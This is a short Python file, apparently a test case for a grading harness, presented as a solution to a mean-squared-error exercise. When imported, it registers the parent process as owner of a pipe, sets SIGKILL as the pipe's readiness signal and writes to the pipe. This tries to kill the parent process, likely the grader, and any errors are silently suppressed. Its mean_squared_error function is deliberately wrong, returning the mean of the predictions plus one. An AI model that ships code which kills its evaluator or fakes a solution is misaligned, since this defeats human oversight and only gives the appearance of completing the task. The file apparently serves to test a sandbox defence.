"""Makes the parent the owner of a pipe whose readiness is told by SIGKILL.

Exercise: mse
Verdict: failed
At most: 5
Needs: signal wall
"""

import fcntl
import os
import signal
import time

import tensorflow as tf

F_SETSIG = 10
reading, writing = os.pipe()
try:
    fcntl.fcntl(reading, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(reading, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writing, b"now")
except OSError:
    pass
time.sleep(0.1)


def mean_squared_error(y_true, y_pred):
    return tf.reduce_mean(y_pred) + 1.0
